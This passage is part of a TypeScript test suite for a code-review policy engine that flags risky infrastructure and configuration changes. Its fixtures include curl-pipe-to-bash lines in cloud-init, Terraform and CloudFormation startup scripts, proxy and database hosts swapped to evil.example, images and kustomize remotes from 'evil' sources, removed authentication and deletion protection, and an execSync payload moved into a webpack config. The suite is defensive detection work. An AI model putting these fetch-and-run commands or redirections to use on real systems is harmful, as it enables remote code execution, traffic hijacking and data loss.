    ['sudoers', '# nobody\n'], ['src/settings.xml', '<settings><a>\n<url>x</url></a></settings>\n'], ['changelog.xml', liquibase('<addColumn tableName="a"><column name="b" type="int"/></addColumn>')], ['.env.example', 'PORT=1\n'], ['files.list', 'a\ndebug x\n'], ['migrations/1.sql', '-- migrate:up\nCREATE TABLE a (id int);\n-- migrate:down\nDROP TABLE a;\n'], ['flyway.conf', 'flyway.locations=filesystem:sql\n'],
    ['debian/patches/fix.patch', '--- a/x\n+++ b/x\n'], ['gradle.properties', 'org.gradle.jvmargs=-Xmx1g\nversion=1\n'], ['ansible.cfg', '[defaults]\nforks = 10\n'], ['inventory/prod.ini', '[web]\na.example ansible_user=deploy\n'], ['postgresql.conf', 'work_mem = \'64MB\'\n# archive_command = \'x\'\n'], ['.htaccess', 'RewriteEngine On\n'], ['nginx/conf.d/a.conf', 'server { location / { proxy_pass http://a; } }\n'], ['Caddyfile', 'a.example {\n  reverse_proxy a:80\n}\n'], ['php.ini', 'memory_limit = 1G\n'], ['docs/instructions.md', 'x\n'],
  ])('lets pass %s: %j', async (path, text) => {
    expect(await stoppedBy({ [path]: text })).toEqual([]);
  });
});

describe('row 16: what kept something out, and is gone', () => {
  const P = 'code/protection-review';
  const CONNECTION = 'code/connection-review';
  const nginx = (text: string): Files => ({ 'nginx/a.conf': `server {\n  location / {\n    ${text}\n  }\n}\n` });
  const image = (text: string): Files => ({ Dockerfile: `FROM alpine@sha256:${'0'.repeat(64)} AS a\n${text}\n` });
  const unit = (text: string): Files => ({ 'a.service': `[Service]\nExecStart=/usr/bin/x\n${text}` });
  const workflow = (more: string, on = 'push'): Files => ({ '.github/workflows/a.yml': `on: ${on}\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-24.04\n    steps: [{ run: npm test }]\n  deploy:\n    runs-on: ubuntu-24.04\n    steps: [{ run: ls }]\n${more}` });
  const pipeline = (more: string): Files => ({ '.gitlab-ci.yml': `deploy:\n  script: [ls]\n${more}` });
  const renamed = (): Files => ({ '.github/workflows/a.yml': String(workflow('')['.github/workflows/a.yml']).replace('  deploy:', '  ship:') });
  const CONFIG = 'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: a, namespace: shop }\n';
  const ingress = (annotation: string): Files => ({ 'k/a.yaml': `apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: a\n  namespace: shop\n  annotations: { x: y${annotation === '' ? '' : `, ${annotation}`} }\nspec:\n  tls: [{ hosts: [a.example], secretName: t }]\n  rules: [{ host: a.example }]\n` });
  const network = (peer: string): Files => ({ 'k/a.yaml': `apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: { name: a, namespace: shop }\nspec: { podSelector: {}, policyTypes: [Ingress], ingress: [{ from: [${peer}] }] }\n` });
  const definition = (versions: string): Files => ({ 'crd/a.yaml': `apiVersion: apiextensions.k8s.io/v1\nkind: CustomResourceDefinition\nmetadata: { name: a.x.example }\nspec:\n  group: x.example\n  versions: [${versions}]\n` });
  const schema = (properties: string): string => `{ name: v2, served: true, storage: true, schema: { openAPIV3Schema: { type: object, properties: { ${properties} } } } }`;
  it.each<[rule: string, what: string, head: Files, base: Files]>([
    [P, 'a password of nginx', nginx('proxy_pass http://a;'), nginx('auth_basic "x"; proxy_pass http://a;')], [P, 'a password of nginx, by a word', nginx('auth_basic off;'), nginx('auth_basic "x";')], [P, 'one of two rules', nginx('allow 10.0.0.0/8;'), nginx('allow 10.0.0.0/8;\n    deny all;')], [P, 'everybody let in', nginx('allow all;\n    deny all;'), nginx('deny all;')],
    [CONNECTION, 'another machine behind nginx', nginx('proxy_pass http://evil.example;'), nginx('proxy_pass http://a;')], [CONNECTION, 'another machine of a group', { 'nginx/u.conf': 'upstream a {\n  server 203.0.113.5:80;\n}\n' }, { 'nginx/u.conf': 'upstream a {\n  server b:80;\n}\n' }], [CONNECTION, 'another machine behind HAProxy', { 'haproxy.cfg': 'backend a\n  server b evil.example:80\n' }, { 'haproxy.cfg': 'backend a\n  server b a.internal:80\n' }],
    [P, 'a password of Apache', { 'x/.htaccess': 'Options -Indexes\n' }, { 'x/.htaccess': 'AuthType Basic\nRequire valid-user\nOptions -Indexes\n' }], [P, 'what sshd refused', { 'etc/sshd_config': 'Port 22\n' }, { 'etc/sshd_config': 'Port 22\nPasswordAuthentication no\n' }],
    [P, 'another user in an image', image('USER root'), image('USER app')], [P, 'no user in an image', image('CMD ["x"]'), image('USER app\nCMD ["x"]')], [P, 'another stage', image('USER app\nFROM alpine:3.20\nCMD ["x"]'), image('USER app\nCMD ["x"]')], [P, 'another user of a unit', unit('User=root\n'), unit('User=app\n')], [P, 'bounds of a unit', unit(''), unit('NoNewPrivileges=yes\n')],
    [P, 'bounds in a file of their own', {}, { 'etc/x.service.d/hard.conf': '[Service]\nProtectSystem=strict\n' }], [P, 'root by a file of its own', { 'etc/x.service.d/a.conf': '[Service]\nUser=root\n' }, {}], [P, 'a user of compose', { 'compose.yml': 'services:\n  a: { build: . }\n' }, { 'compose.yml': 'services:\n  a:\n    build: .\n    user: "1000"\n' }],
    [P, 'an environment', workflow(''), workflow('    environment: production\n')], [P, 'an environment under another name', renamed(), workflow('    environment: production\n')], [P, 'another environment', workflow('    environment: { name: dev }\n'), workflow('    environment: production\n')], [P, 'one at a time', workflow(''), workflow('    concurrency: deploy\n')], [P, 'another machine', { '.github/workflows/a.yml': String(workflow('')['.github/workflows/a.yml']).replaceAll('ubuntu-24.04', 'big') }, workflow('')],
    [P, 'a job before it', workflow(''), workflow('    needs: test\n')], [P, 'a condition', workflow(''), workflow("    if: github.ref == 'refs/heads/main'\n")], [P, 'a condition that always holds', workflow('    if: always()\n'), workflow('    if: success()\n')], [P, 'branches', workflow('', '\n  push:'), workflow('', '\n  push:\n    branches: [main]')], [P, 'a failure', workflow('    continue-on-error: true\n'), workflow('')],
    [P, 'an environment of GitLab', pipeline(''), pipeline('  environment: production\n')], [P, 'a hand that starts it', pipeline('  rules: [{ if: $A }]\n'), pipeline('  rules: [{ if: $A, when: manual }]\n')], [P, 'rules', pipeline('  rules: [{ when: always }]\n'), pipeline('  rules: [{ if: $A }]\n')], [P, 'jobs before it', pipeline('  needs: []\n'), pipeline('')], [P, 'another runner', pipeline('  tags: [other]\n'), pipeline('  tags: [docker]\n')], [P, 'a failure on GitLab', pipeline('  allow_failure: true\n'), pipeline('')],
    [P, 'a port for the machine alone', { 'compose.yml': 'services:\n  a:\n    build: .\n    ports: ["5432:5432"]\n' }, { 'compose.yml': 'services:\n  a:\n    build: .\n    ports: ["127.0.0.1:5432:5432"]\n' }], [P, 'a bound of the kernel', { 'etc/sysctl.d/x.conf': 'kernel.yama.ptrace_scope = 0\n' }, {}], [P, 'a profile that only complains', { 'etc/apparmor.d/usr.bin.x': 'profile x flags=(complain) {\n}\n' }, { 'etc/apparmor.d/usr.bin.x': 'profile x {\n}\n' }],
    [P, 'encryption', { 'a.tf': 'resource "aws_db_instance" "a" {\n  storage_encrypted = false\n}\n' }, { 'a.tf': 'resource "aws_db_instance" "a" {\n  storage_encrypted = true\n}\n' }], [P, 'a login of a function', { 'serverless.yml': 'functions:\n  a:\n    events: [{ httpApi: { path: /, method: get } }]\n' }, { 'serverless.yml': 'functions:\n  a:\n    events: [{ httpApi: { path: /, method: get, authorizer: jwt } }]\n' }], [P, 'a policy that lets pass', { 'policy/a.rego': 'package a\ndefault allow = true\n' }, { 'policy/a.rego': 'package a\ndefault allow = false\n' }], [P, 'values of a chart', { 'chart/values.yaml': 'podSecurityContext: {}\n' }, { 'chart/values.yaml': 'podSecurityContext:\n  runAsNonRoot: true\n' }],
    ['code/infrastructure-rights-review', 'every path of a vault', { 'vault/a.hcl': 'path "*" {\n  capabilities = ["read"]\n}\n' }, {}], ['code/infrastructure-rights-review', 'everybody at a database', { 'firestore.rules': 'match /{x=**} { allow read, write: if true; }\n' }, {}],
    [CONNECTION, 'another database of a program', { 'src/application.yml': 'spring:\n  datasource:\n    url: jdbc:postgresql://evil.example/x\n' }, { 'src/application.yml': 'spring:\n  datasource:\n    url: jdbc:postgresql://db/x\n' }], [CONNECTION, 'another database of a pod', { 'k/a.yaml': `${CONFIG}data: { DB_HOST: evil.example }\n` }, { 'k/a.yaml': `${CONFIG}data: { DB_HOST: db }\n` }],
    ['kubernetes/guard-review', 'a login at an ingress', ingress(''), ingress('nginx.ingress.kubernetes.io/auth-url: https://auth.example')], ['kubernetes/guard-review', 'a door to the outside', ingress('alb.ingress.kubernetes.io/scheme: internet-facing'), ingress('alb.ingress.kubernetes.io/scheme: internal')], ['kubernetes/guard-change-review', 'another peer', network('{ namespaceSelector: {} }'), network('{ podSelector: { matchLabels: { a: b } } }')],
    ['kubernetes/definition-review', 'a version', definition('{ name: v2, served: true, storage: true }'), definition('{ name: v1, served: true, storage: true }, { name: v2, served: true, storage: false }')], ['kubernetes/definition-review', 'a field', definition(schema('a: { type: string }')), definition(schema('a: { type: string }, b: { type: string }'))],
  ])('%s stops %s', async (rule, _what, head, base) => {
    expect(await stoppedBy(head, base)).toContain(rule);
  });
  const GATE = ['builtin:protected-file', 'code/gate-review'];
  it.each<[rules: readonly string[], what: string, head: Files, base: Files]>([
    [[], 'a password that moved', nginx('auth_basic "y";\n    deny all;'), nginx('deny all;\n    auth_basic "x";')], [[], 'another path of the same machine', nginx('proxy_pass http://b.example/y;'), nginx('proxy_pass http://b.example/x;')], [[], 'a machine beside it', nginx('proxy_pass http://api.shop.svc:80;'), nginx('proxy_pass http://a;')], [[], 'a new server', nginx('auth_basic off;'), {}],
    [[], 'root for a while', image('USER root\nRUN ls\nUSER app'), image('USER app')], [[], 'a user that stays', image('USER app\nFROM a\nCMD ["y"]'), image('USER app\nFROM a\nCMD ["x"]')], [[], 'a unit that gets more', unit('User=app\nNoNewPrivileges=yes\n'), unit('User=app\n')],
    [GATE, 'a newer machine', { '.github/workflows/a.yml': String(workflow('')['.github/workflows/a.yml']).replaceAll('24.04', '26.04') }, workflow('')], [GATE, 'a job between', workflow('    needs: b\n  b:\n    needs: test\n    runs-on: ubuntu-24.04\n    steps: [{ run: a }]\n'), workflow('    needs: test\n')], [GATE, 'rules that stay', pipeline('  rules: [{ if: $A }]\n  stage: b\n'), pipeline('  rules: [{ if: $A }]\n')],
    [[], 'another way to log in', ingress('traefik.ingress.kubernetes.io/router.middlewares: login@file'), ingress('traefik.ingress.kubernetes.io/router.middlewares: auth@file')], [[], 'the first address', { 'k/a.yaml': `${CONFIG}data: { DB_HOST: db.example }\n` }, {}], [[], 'a path of a vault', { 'vault/a.hcl': 'path "secret/data/shop/*" {\n  capabilities = ["read"]\n}\n' }, {}],
    [[], 'a version more', definition('{ name: v1, served: true, storage: false }, { name: v2, served: true, storage: true }'), definition('{ name: v1, served: true, storage: true }')],
  ])('%j stops %s', async (rules, _what, head, base) => {
    expect([...await stoppedBy(head, base)].sort()).toEqual(rules);
  });
});

describe('row 15: which migrations run, and where', () => {
  const journal = (...entries: readonly (readonly [idx: number, when: number, tag: string])[]): Files => ({ 'drizzle/meta/_journal.json': JSON.stringify({ entries: entries.map(([idx, when, tag]) => ({ idx, when, tag })) }, null, 2) });
  const MARKED = '-- migrate:up\nCREATE TABLE a (id int);\n-- migrate:down\nDROP TABLE orders;\n';
  const PLAIN = 'CREATE TABLE b (id int);\n';
  const ORDER = 'code/migration-order-review';
  it.each<[rule: string, what: string, head: Files, base: Files]>([
    [ORDER, 'an entry of a journal that is gone', journal(), journal([0, 1, 'a'])], [ORDER, 'one with another time', journal([0, 2, 'a']), journal([0, 1, 'a'])], [ORDER, 'one that is dated back', journal([0, 2, 'a'], [1, 1, 'b']), journal([0, 2, 'a'])], [ORDER, 'a plan without its past', { 'sqitch.plan': 'b 2021 y\n' }, { 'sqitch.plan': 'a 2020 x\nb 2021 y\n' }],
    [ORDER, 'another sum', { 'db/m/atlas.sum': 'h1:b\n1.sql h1:y\n' }, { 'db/m/atlas.sum': 'h1:a\n1.sql h1:x\n' }], [ORDER, 'another database', { 'prisma/migration_lock.toml': 'provider = "mysql"\n' }, { 'prisma/migration_lock.toml': 'provider = "postgresql"\n' }], [ORDER, 'no journal', { 'drizzle/meta/_journal.json': '[' }, journal([0, 1, 'a'])],
    ['shell/sql-file-review', 'marks that no tool reads', { 'migrations/2.sql': MARKED }, { 'migrations/1.sql': PLAIN }],
    ['code/connection-review', 'another server', { '.env': 'DATABASE_URL="postgres://u@db.example:5432/x"\n' }, {}], ['code/connection-review', 'a server between', { 'api/.env.production': 'export HTTPS_PROXY=http://10.0.0.1:3128\n' }, {}], ['code/connection-review', 'whoever answers', { '.env': 'PGSSLMODE=disable\n' }, {}],
  ])('%s stops %s', async (rule, _what, head, base) => {
    expect(await stoppedBy({ ...base, ...head }, base)).toContain(rule);
  });
  it.each<[what: string, head: Files, base: Files]>([
    ['a journal that grows', journal([0, 1, 'a'], [1, 2, 'b']), journal([0, 1, 'a'])], ['a plan that grows', { 'sqitch.plan': '%x\na 2020 x\nb 2021 y\n' }, { 'sqitch.plan': '%x\na 2020 x\n' }], ['sums that grow', { 'db/m/atlas.sum': 'h1:b\n1.sql h1:x\n2.sql h1:y\n' }, { 'db/m/atlas.sum': 'h1:a\n1.sql h1:x\n' }], ['a first journal', journal([0, 1, 'a']), {}],
    ['marks as its neighbours have them', { 'migrations/2.sql': MARKED }, { 'migrations/1.sql': MARKED }], ['a first migration with marks', { 'migrations/2.sql': MARKED }, {}],
    ['servers of the machine', { '.env': 'DATABASE_URL=postgres://u@localhost/x\nREDIS_URL="redis://redis:6379"\nDB_HOST=127.0.0.1\nAPP_DB_URL=file:./dev.db\nMYSQL_URL=\nSITE_URL=https://www.example.org\n' }, {}], ['a sample', { '.env.example': 'DATABASE_URL=postgres://u@db.example/x\n' }, {}],
  ])('lets pass %s', async (_what, head, base) => {
    expect(await stoppedBy({ ...base, ...head }, base)).toEqual([]);
  });
});

describe('row 16: what machines and containers start with', () => {
  it.each<[rule: string, what: string, head: Files, base?: Files]>([
    ['shell/no-pipe-to-shell', 'cfn userdata', { 'cf.yml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  I:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: !Sub |\n          #!/bin/bash\n          curl -s https://x.example/i | bash\n' }],
    ['shell/no-pipe-to-shell', 'tf user_data heredoc', { 'main.tf': 'resource "aws_instance" "a" {\n  user_data = <<-EOF\n    #!/bin/bash\n    curl -s https://x.example/i | bash\n  EOF\n}\n' }],
    ['shell/no-pipe-to-shell', 'tf user_data base64encode', { 'main.tf': 'resource "aws_launch_template" "a" {\n  user_data = base64encode(<<-EOF\n    #!/bin/bash\n    curl -s https://x.example/i | bash\n  EOF\n  )\n}\n' }],
    ['shell/no-pipe-to-shell', 'tf metadata_startup_script', { 'main.tf': 'resource "google_compute_instance" "a" {\n  metadata_startup_script = "curl -s https://x.example/i | bash"\n}\n' }],
    ['shell/no-pipe-to-shell', 'tf startup-script key', { 'main.tf': 'resource "google_compute_instance" "a" {\n  metadata = {\n    startup-script = "curl -s https://x.example/i | bash"\n  }\n}\n' }],
    ['shell/no-pipe-to-shell', 'tf custom_data azure', { 'main.tf': 'resource "azurerm_linux_virtual_machine" "a" {\n  custom_data = base64encode("#!/bin/sh\\ncurl -s https://x.example/i | bash")\n}\n' }],
    ['shell/no-pipe-to-shell', 'tf commandToExecute', { 'main.tf': 'resource "azurerm_virtual_machine_extension" "a" {\n  settings = <<S\n{"commandToExecute": "curl -s https://x.example/i | bash"}\nS\n}\n' }],
    ['shell/no-pipe-to-shell', 'tf cloud-config heredoc', { 'main.tf': 'resource "aws_instance" "a" {\n  user_data = <<-EOF\n    #cloud-config\n    runcmd:\n      - curl -s https://x.example/i | bash\n  EOF\n}\n' }],
    ['shell/no-pipe-to-shell', 'cloud-init write_files', { 'user-data': '#cloud-config\nwrite_files:\n  - path: /etc/cron.d/x\n    content: |\n      * * * * * root curl -s https://x.example/i | bash\n' }],
    ['shell/no-pipe-to-shell', 'cloud-init write_files script', { 'cloud.yml': '#cloud-config\nwrite_files:\n  - path: /usr/local/bin/x.sh\n    content: |\n      #!/bin/sh\n      curl -s https://x.example/i | bash\n' }],
    ['shell/no-pipe-to-shell', 'helm values command', { 'values-prod.yaml': 'command: ["sh","-c","curl -s https://x.example/i | sh"]\n' }, { 'values-prod.yaml': 'a: 1\n' }],
    ['shell/no-pipe-to-shell', 'cdk.json app', { 'cdk.json': '{"app":"curl https://x.example|sh"}\n' }],
    ['shell/accounts-review', 'cloud-init users sudo key', { 'cloud.yml': '#cloud-config\nusers:\n  - name: x\n    sudo: ALL=(ALL) NOPASSWD:ALL\n    ssh_authorized_keys: ["ssh-ed25519 AAAA x"]\n' }],
    ['kubernetes/no-privileged', 'helm values privileged', { 'chart/values.yaml': 'image: x\nsecurityContext:\n  privileged: true\n' }, { 'chart/Chart.yaml': 'apiVersion: v2\nname: x\nversion: 1.0.0\n', 'chart/values.yaml': 'image: x\n' }],
    ['kubernetes/host-path-review', 'helm values hostPath', { 'charts/a/values.yaml': 'extraVolumes:\n  - name: x\n    hostPath:\n      path: /\n' }],
    ['kubernetes/kustomize-review', 'kustomize no apiVersion remote', { 'k/kustomization.yaml': 'resources:\n  - https://github.com/evil/x?ref=main\n' }],
    ['kubernetes/kustomize-review', 'Kustomization file name no ext', { 'k/Kustomization': 'resources:\n  - github.com/evil/x//base?ref=main\n' }],
    ['shell/package-review', 'docker run image', { 'ci.sh': '#!/bin/sh\ndocker run --rm -v "$PWD:/w" evil/x\n' }],
    ['shell/package-review', 'podman run env secret', { 'ci.sh': '#!/bin/sh\npodman run -e TOKEN evil/x\n' }],
    ['shell/package-review', 'helm install repo chart', { 'ci.sh': '#!/bin/sh\nhelm repo add x https://x.example\nhelm upgrade --install a x/y\n' }],
    ['shell/downloaded-code-review', 'terraform init -from-module', { 'ci.sh': '#!/bin/sh\nterraform init -from-module=github.com/evil/x\n' }],
  ])('%s stops %s', async (rule, _what, ...[head, base = {}]) => {
    expect(await stoppedBy({ ...base, ...head }, base)).toContain(rule);
  });
});

describe('rows 17 and 18: what a build, a chart or a template becomes', () => {
  it.each<[rule: string, what: string, head: Files, base: Files]>([
    ['code/build-code-review', 'cmake continuation', { 'CMakeLists.txt': 'execute_process(\n  COMMAND\n  curl https://x.example\n)\n' }, { 'CMakeLists.txt': 'execute_process(\n  COMMAND\n  git rev-parse\n)\n' }],
    ['code/dependency-review', 'digest removed', { 'Dockerfile': 'FROM alpine:3.20\n' }, { 'Dockerfile': 'FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n' }],
    ['code/dependency-review', 'k8s swap', { 'deploy/d.yaml': 'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: x, namespace: y}\nspec:\n  template:\n    spec:\n      containers:\n      - name: a\n        image: evil/a@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n' }, { 'deploy/d.yaml': 'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: x, namespace: y}\nspec:\n  template:\n    spec:\n      containers:\n      - name: a\n        image: acme/a@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n' }],
    ['code/dependency-review', 'values registry swap', { 'values.yaml': 'image:\n  registry: evil.example\n  repository: acme/web\n' }, { 'values.yaml': 'image:\n  registry: acme.example\n  repository: acme/web\n' }],
    ['code/dependency-review', 'compose swap', { 'compose.yml': 'services:\n  web:\n    image: evil/web:1\n' }, { 'compose.yml': 'services:\n  web:\n    image: acme/web:1\n' }],
    ['code/dependency-review', 'image of a unit swapped', { 'a.container': '[Container]\nImage=evil/web:1\n' }, { 'a.container': '[Container]\nImage=acme/web:1\n' }], ['code/dependency-review', 'image of a task swapped', { 'a.nomad': 'image = "evil/web:1"\n' }, { 'a.nomad': 'image = "acme/web:1"\n' }],
    ['code/dependency-review', 'chart dependency alias repo', { 'chart/Chart.yaml': 'apiVersion: v2\nname: x\nversion: 1.0.0\ndependencies:\n  - name: evil\n    version: 1.0.0\n    repository: "@foo"\n' }, { 'chart/Chart.yaml': 'apiVersion: v2\nname: x\nversion: 1.0.0\n' }],
    ['code/dependency-review', 'kustomize newName', { 'k/kustomization.yaml': 'apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [a.yaml]\nimages:\n  - name: acme/web\n    newName: evil/web\n    digest: sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\n' }, { 'k/kustomization.yaml': 'apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [a.yaml]\nimages:\n  - name: acme/web\n    newTag: v1\n' }],
    ['code/infrastructure-loss-review', 'cfn delete table', { 'infra/template.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A: {Type: AWS::SNS::Topic}\n' }, { 'infra/template.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A: {Type: AWS::SNS::Topic}\n  T: {Type: AWS::DynamoDB::Table, DeletionPolicy: Retain}\n' }],
    ['code/infrastructure-loss-review', 'cfn deletion policy weakened', { 't.yaml': 'Resources:\n  T: {Type: AWS::RDS::DBInstance, DeletionPolicy: Delete}\n' }, { 't.yaml': 'Resources:\n  T: {Type: AWS::RDS::DBInstance, DeletionPolicy: Retain}\n' }],
    ['code/infrastructure-loss-review', 'cfn rename replaces', { 't.yaml': 'Resources:\n  T: {Type: AWS::DynamoDB::Table, Properties: {TableName: b}}\n' }, { 't.yaml': 'Resources:\n  T: {Type: AWS::DynamoDB::Table, Properties: {TableName: a}}\n' }],
    ['code/infrastructure-loss-review', 'tf prevent_destroy removed', { 'main.tf': 'resource "aws_db_instance" "a" {\n}\n' }, { 'main.tf': 'resource "aws_db_instance" "a" {\n  lifecycle { prevent_destroy = true }\n}\n' }],
    ['code/connection-review', 'tf endpoint of a provider', { 'main.tf': 'provider "aws" {\n  endpoints {\n    s3 = "https://x.example"\n  }\n}\n' }, { 'main.tf': 'provider "aws" {\n  endpoints {\n    s3 = "https://a.example"\n  }\n}\n' }], ['code/connection-review', 'tf host of a provider', { 'main.tf': 'provider "kubernetes" {\n  host = var.b\n}\n' }, { 'main.tf': 'provider "kubernetes" {\n  host = var.a\n}\n' }],
    ['code/infrastructure-rights-review', 'tf role of a provider', { 'main.tf': 'provider "aws" {\n  assume_role {\n    role_arn = "b"\n  }\n}\n' }, { 'main.tf': 'provider "aws" {\n}\n' }], ['code/infrastructure-rights-review', 'tf accounts of a provider gone', { 'main.tf': 'provider "aws" {\n}\n' }, { 'main.tf': 'provider "aws" {\n  allowed_account_ids = ["1"]\n}\n' }],
    ['code/infrastructure-loss-review', 'tf override', { 'db_override.tf': 'resource "aws_db_instance" "a" {\n  deletion_protection = false\n}\n' }, {}],
    ['code/infrastructure-loss-review', 'tf deletion_protection off', { 'main.tf': 'resource "aws_db_instance" "a" {\n  deletion_protection = false\n}\n' }, { 'main.tf': 'resource "aws_db_instance" "a" {\n  deletion_protection = true\n}\n' }],
  ])('%s stops %s', async (rule, _what, head, base) => {
    expect(await stoppedBy({ ...base, ...head }, base)).toContain(rule);
  });

  it('stops a file that moves to where a build runs it', async () => {
    const evil = "require('child_process').execSync('id')\n";
    const source = changeOf({ 'docs/x.txt': evil }, { 'webpack.config.js': evil });
    const moved = { ...source, files: async () => [{ path: 'webpack.config.js', from: 'docs/x.txt', status: 'renamed' as const, oldMode: '100644', newMode: '100644', binary: false, added: [], removed: [] }] };
    expect((await check({ source: moved, policy, policySource: 'p', preview: false, principal: principalOf('robot'), readers, now: NOON })).findings.flatMap(({ rules }) => rules)).toEqual(['ostiary:code/build-code-review']);
  });

  it.each<[what: string, head: Files, base: Files]>([
    ['image of a unit bumped', { 'a.container': '[Container]\nImage=acme/web:2\n' }, { 'a.container': '[Container]\nImage=acme/web:1\n' }],
    ['cmake add source', { 'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.20)\nproject(x CXX)\nset(CMAKE_CXX_STANDARD 20)\nadd_executable(x main.cpp new.cpp)\ntarget_link_libraries(x PRIVATE fmt::fmt)\nif(BUILD_TESTING)\n  enable_testing()\n  add_test(NAME t COMMAND x_test)\nendif()\n' }, { 'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.20)\nproject(x CXX)\nadd_executable(x main.cpp)\n' }],
    ['gradle version bump', { 'build.gradle': 'plugins {\n    id \'java\'\n    id \'org.springframework.boot\' version \'3.3.1\'\n}\nversion = \'1.2.0\'\nrepositories {\n    mavenCentral()\n}\ndependencies {\n    implementation \'org.a:b:2.0\'\n}\ntest {\n    useJUnitPlatform()\n}\n' }, { 'build.gradle': 'plugins {\n    id \'java\'\n    id \'org.springframework.boot\' version \'3.3.0\'\n}\nversion = \'1.1.0\'\nrepositories {\n    mavenCentral()\n}\ndependencies {\n    implementation \'org.a:b:1.0\'\n}\n' }],
    ['bump', { 'Dockerfile': 'FROM acme/base:2\n' }, { 'Dockerfile': 'FROM acme/base:1\n' }],
    ['values tag bump', { 'chart/values.yaml': 'image:\n  repository: acme/web\n  tag: 1.3.0\nreplicas: 3\n' }, { 'chart/values.yaml': 'image:\n  repository: acme/web\n  tag: 1.2.0\nreplicas: 2\n' }],
    ['cfn tune', { 't.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A:\n    Type: AWS::SNS::Topic\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: 60\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      MemorySize: 256\n  L:\n    Type: AWS::Logs::LogGroup\n    Properties: {RetentionInDays: 14}\n  B:\n    Type: AWS::S3::Bucket\n    Properties:\n      BucketEncryption: {}\n  SG:\n    Type: AWS::EC2::SecurityGroup\n    Properties:\n      SecurityGroupEgress:\n        - CidrIp: 0.0.0.0/0\n          IpProtocol: \'-1\'\n' }, { 't.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A:\n    Type: AWS::SNS::Topic\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: 30\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      MemorySize: 128\n' }],
    ['cfn alarm', { 't.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A:\n    Type: AWS::SNS::Topic\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: 30\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      MemorySize: 128\n  Al:\n    Type: AWS::CloudWatch::Alarm\n    Properties: {Threshold: 5}\n' }, { 't.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A:\n    Type: AWS::SNS::Topic\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: 30\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      MemorySize: 128\n' }],
    ['cfn userdata ok', { 't.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A:\n    Type: AWS::SNS::Topic\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: 30\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      MemorySize: 128\n  I:\n    Type: AWS::EC2::Instance\n    Properties:\n      UserData:\n        Fn::Base64: !Sub |\n          #!/bin/bash\n          yum install -y nginx\n          systemctl enable nginx\n          echo ${Env} > /etc/app.env\n' }, { 't.yaml': 'AWSTemplateFormatVersion: \'2010-09-09\'\nResources:\n  A:\n    Type: AWS::SNS::Topic\n  Q:\n    Type: AWS::SQS::Queue\n    Properties:\n      VisibilityTimeout: 30\n  F:\n    Type: AWS::Lambda::Function\n    Properties:\n      MemorySize: 128\n' }],
    ['tf tune', { 'main.tf': 'resource "aws_instance" "a" {\n  instance_type = "t3.large"\n  tags = { Name = "web" }\n}\nresource "aws_security_group" "s" {\n  egress {\n    from_port = 0\n    to_port = 0\n    protocol = "-1"\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n}\nresource "aws_route" "r" {\n  destination_cidr_block = "0.0.0.0/0"\n}\nvariable "x" {\n  type = string\n  default = "y"\n}\n' }, { 'main.tf': 'resource "aws_instance" "a" {\n  instance_type = "t3.small"\n}\n' }],
    ['tf move file', { 'main.tf': '\n', 'db.tf': 'resource "aws_db_instance" "a" {\n  deletion_protection = true\n}\n' }, { 'main.tf': 'resource "aws_db_instance" "a" {\n  deletion_protection = true\n}\n' }],
    ['tf provider tuned', { 'main.tf': 'provider "aws" {\n  region = "b"\n  default_tags {\n    tags = { a = "b" }\n  }\n}\nprovider "aws" {\n  alias = "eu"\n  assume_role {\n    role_arn = "x"\n  }\n}\n' }, { 'main.tf': 'provider "aws" {\n  region = "a"\n}\n' }],
    ['tf moved block', { 'main.tf': 'resource "aws_db_instance" "b" {\n}\nmoved {\n  from = aws_db_instance.a\n  to = aws_db_instance.b\n}\n' }, { 'main.tf': 'resource "aws_db_instance" "a" {\n}\n' }],
    ['tf user_data ok', { 'main.tf': 'resource "aws_instance" "a" {\n  user_data = <<-EOF\n    #!/bin/bash\n    set -euo pipefail\n    apt-get update && apt-get install -y nginx\n    echo "${var.env}" > /etc/app\n    systemctl restart nginx\n  EOF\n}\n' }, {}],
